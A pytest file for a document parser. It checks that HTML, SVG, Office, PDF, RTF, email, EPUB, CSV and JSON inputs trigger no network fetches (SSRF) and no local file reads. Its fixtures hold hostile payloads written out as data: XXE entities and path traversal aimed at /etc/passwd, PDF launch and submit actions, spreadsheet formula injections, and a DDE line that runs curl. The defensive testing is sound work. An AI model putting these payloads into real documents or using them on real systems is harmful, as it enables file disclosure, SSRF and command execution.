"""
Nothing fetches what a document names (SSRF), and no document reads a file of the machine.

Every format carries addresses of a listener that must not be called, in the ways in which programs
follow them, and of files that must not be read.
"""

from __future__ import annotations

import socket
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from functions.ingest.sandbox import parse_document
from shared.errors import Unreadable
from tests.support.documents import (
    LIMITS,
    assemble_pdf,
    docx_paragraph,
    make_docx,
    make_epub,
    make_pptx,
    make_xlsx,
    make_zip,
    parse_bytes,
    pdf_lines,
    pptx_shape,
    relations,
    small_tokenizer,
    xlsx_row,
)

FILE = "/etc/passwd"


class Listener:
    """Accepts connections and counts them."""

    def __init__(self) -> None:
        self.calls: list[bytes] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._socket.getsockname()[1]
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                self.calls.append(b"connected")

    def close(self) -> None:
        """Stop; whoever connected before was counted, since the backlog is in order."""
        with socket.create_connection(("127.0.0.1", self.port)):
            pass
        while not self.calls:
            self._thread.join(0.01)
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


def entity_prolog(url: str) -> str:
    return (
        f'<!DOCTYPE a [<!ENTITY web SYSTEM "{url}/entity"><!ENTITY file SYSTEM "file://{FILE}">'
        f'<!ENTITY % parameter SYSTEM "{url}/parameter.dtd"> %parameter;]>'
    )


def documents(url: str) -> dict[str, bytes]:
    """Return a document of each way in which a program would call *url*, by name."""
    external = relations([("x1", "attachedTemplate", f"{url}/t.dotm"), ("x2", "image", f"{url}/i")])
    external = external.replace("/>", ' TargetMode="External"/>')
    html = f"""<html><head><base href="{url}/"><meta http-equiv="refresh" content="0;url={url}/r">
        <link rel="stylesheet" href="{url}/c.css"><link rel="preload" href="{url}/p" as="image">
        <link rel="dns-prefetch" href="{url}"><style>@import "{url}/s.css"; body {{background:
        url({url}/b)}}</style><script src="{url}/j.js"></script></head><body background="{url}/g">
        <p>The word is zebra.</p><img src="{url}/i" srcset="{url}/i2 2x"><iframe src="{url}/f">
        </iframe><object data="{url}/o"></object><embed src="{url}/e"><video poster="{url}/v"
        src="{url}/v2"></video><svg><image href="{url}/x"/><use xlink:href="{url}/u#a"/></svg>
        <a ping="{url}/ping" href="{url}/a">link</a><img src="file://{FILE}"></body></html>"""
    svg = f"""<?xml version="1.0"?><?xml-stylesheet href="{url}/style.xsl"?>{entity_prolog(url)}
        <svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>The
        word is zebra. &web; &file;</text><image xlink:href="{url}/x"/></svg>"""
    page = pdf_lines(["The word is zebra."]).encode()
    web, file = url.encode(), FILE.encode()
    action = b"/A<</S/GoToR/F(%s)>>" % file
    launch = b"/A<</S/Launch/F<</FS/URL/F(%s/launch)>>>>" % web
    pdf = assemble_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R"
            b"/OpenAction<</S/URI/URI(%s/open)>>/AA<</WC<</S/SubmitForm/F(%s/submit)>>>>"
            b"/AcroForm<</Fields[]/XFA(<xdp href='%s/xfa'/>)>>>>" % (web, web, web),
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[4 0 R 6 0 R]"
            b"/Resources<</Font<</F 5 0 R>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]%s>>"
            b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]%s>>]>>" % (action, launch),
            b"<</Length %d>>stream\n%s\nendstream" % (len(page), page),
            b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            b"<</Length 0/F<</FS/URL/F(%s/stream)>>>>stream\n\nendstream" % web,
        ]
    )
    mail = f"""From: a@b.example\nTo: c@d.example\nSubject: zebra\nMIME-Version: 1.0
List-Unsubscribe: <{url}/unsubscribe>\nDisposition-Notification-To: a@b.example
Content-Location: {url}/location\nContent-Type: multipart/mixed; boundary=b

--b
Content-Type: text/html

{html}
--b
Content-Type: message/external-body; access-type=URL; URL="{url}/external"

Content-Type: text/plain

--b
Content-Type: message/external-body; access-type=local-file; name="{FILE}"

Content-Type: text/plain

--b--
"""
    rtf = (
        r"{\rtf1\ansi{\*\template " + url + r"/t.dot}{\field{\*\fldinst INCLUDEPICTURE \"" + url
        + r"/p\" \\d}{\fldrslt x}}{\field{\*\fldinst INCLUDETEXT \"" + FILE + r"\"}{\fldrslt y}}"
        r"{\object\objlink{\*\objdata 0105}} The word is zebra.\par}"
    )  # fmt: skip
    container = '<container><rootfiles><rootfile full-path="{}"/></rootfiles></container>'
    return {
        "page.html": html.encode(),
        "picture.svg": svg.encode(),
        "page.xhtml": svg.replace("svg", "html").encode(),
        "letter.docx": make_docx(
            docx_paragraph("The word is zebra.")
            + '<w:p><w:r><w:instrText>INCLUDETEXT "http://x"</w:instrText></w:r></w:p>'
            + '<w:altChunk r:id="x2" xmlns:r="r"/>',
            extra={
                "word/_rels/document.xml.rels": external,
                "word/_rels/settings.xml.rels": external,
                "word/settings.xml": '<w:settings xmlns:w="w"><w:attachedTemplate/></w:settings>',
            },
        ),
        "entities.docx": make_docx(
            docx_paragraph("The word is zebra. &web; &file;"), prolog=entity_prolog(url)
        ),
        "sheet.xlsx": make_xlsx(
            {"S": xlsx_row(1, ["zebra", f'=WEBSERVICE("{url}/w")', f"=cmd|' /C curl {url}'!A0"])},
            extra={
                "xl/externalLinks/externalLink1.xml": "<externalLink/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": external,
                "xl/connections.xml": f'<connections><webPr url="{url}/c"/></connections>',
            },
        ),
        "slides.pptx": make_pptx([(pptx_shape(f"zebra {url}/s"), "notes")]),
        "book.epub": make_epub(
            [f'<h1>zebra</h1><img src="{url}/i"/><object data="file://{FILE}"/>']
        ),
        "outside.epub": make_zip(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": container.format(f"{url}/book.opf"),
            },
            first="mimetype",
        ),
        "climbing.epub": make_zip(
            {
                "mimetype": "application/epub+zip",
                "META-INF/container.xml": container.format("../../../../../etc/passwd"),
            },
            first="mimetype",
        ),
        "paper.pdf": pdf,
        "letter.rtf": rtf.encode(),
        "mail.eml": mail.encode(),
        "notes.md": f"# zebra\n\n![i]({url}/i) <{url}/a> [r]: {url}/r\n\n{html}".encode(),
        "table.csv": f'a,b\nzebra,"=WEBSERVICE(""{url}/w"")"\n"=IMPORTDATA(""{url}"")",c'.encode(),
        "data.json": f'{{"$schema": "{url}/s", "$ref": "{url}/r#/a", "say": "zebra"}}'.encode(),
        "lines.jsonl": f'{{"@context": "{url}/ld"}}\n{{"say": "zebra"}}\n'.encode(),
        "plain.txt": f"zebra {url}/t\n@import {url}\n#include <{FILE}>\n".encode(),
    }


NAMES = sorted(documents(""))
# Those that hold nothing but what must not be read.
REFUSABLE = {"entities.docx", "outside.epub", "climbing.epub", "picture.svg", "page.xhtml"}


@pytest.fixture(scope="module")
def tokenizer(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a tokenizer that needs no model."""
    path = tmp_path_factory.mktemp("model") / "tokenizer.json"
    small_tokenizer().save(str(path))
    return path


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    """Listen while the tests of the file run, and see at the end that nobody called."""
    running = Listener()
    yield running
    running.close()
    assert len(running.calls) == 1  # close's own


@pytest.mark.parametrize("name", NAMES)
def test_document_when_parsed_as_in_production(
    listener: Listener, tokenizer: Path, tmp_path: Path, name: str
) -> None:
    """The parser child calls nobody and reads no file; its document is read or refused."""
    path = tmp_path / "document"
    path.write_bytes(documents(f"http://127.0.0.1:{listener.port}")[name])
    said = ""
    try:
        with parse_document(
            path,
            name=name,
            content_type=None,
            limits=LIMITS,
            tokenizer=tokenizer,
            max_tokens=256,
        ) as parsed:
            said = " ".join(chunk.text for chunk in parsed.chunks())
            assert "zebra" in said
    except Unreadable as refused:
        said = refused.message
        assert name in REFUSABLE
    assert "root:" not in said
    assert listener.calls == []


class Watch:
    """Notes what Python is asked to connect to, to look up and to open, while it is on."""

    def __init__(self) -> None:
        self.on = False
        self.seen: list[str] = []
        sys.addaudithook(self._hear)

    def _hear(self, event: str, arguments: Any) -> None:
        # An audit hook cannot be taken out again, so it is switched off.
        if not self.on:
            return
        if event.startswith(("socket.", "urllib.", "http.", "ftplib.", "subprocess.", "os.exec")):
            self.seen.append(event)
        elif event == "open" and FILE in str(arguments[0]):
            self.seen.append(f"open {arguments[0]}")


@pytest.fixture(scope="module")
def watch() -> Watch:
    """Return the one hook of this file."""
    return Watch()


@pytest.mark.parametrize("name", NAMES)
def test_document_when_parsed_without_the_child(
    listener: Listener, watch: Watch, name: str
) -> None:
    """The parsers themselves do not even try: the child's limits are the second wall."""
    data = documents(f"http://127.0.0.1:{listener.port}")[name]
    watch.on = True
    try:
        parse_bytes(data, name)
    except Unreadable:
        pass
    finally:
        watch.on = False
    assert watch.seen == []
    assert listener.calls == []
